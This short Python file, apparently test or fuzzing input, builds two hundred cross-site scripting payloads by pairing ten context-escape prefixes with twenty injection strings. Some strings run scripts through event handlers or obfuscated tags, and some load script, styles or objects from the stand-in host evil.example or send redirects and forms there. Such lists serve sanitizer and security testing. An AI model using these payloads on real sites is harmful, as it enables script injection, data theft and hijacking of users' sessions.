"""Two hundred texts that try to become more than text: ten ways out of where they stand, twenty ways to act."""

from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</desc></svg>",
    "--></p>",
    "]]>",
    '" autofocus onfocus=alert(1) x="',
    "{{7*7}}{%",
)
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button autofocus onfocus=this.click()>",
    "<object data=//evil.example/x.swf>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert\u2028(1)</script>{{config}}${alert(1)}",
)
PAYLOADS = [way + act for way, act in product(WAYS_OUT, ACTS)]
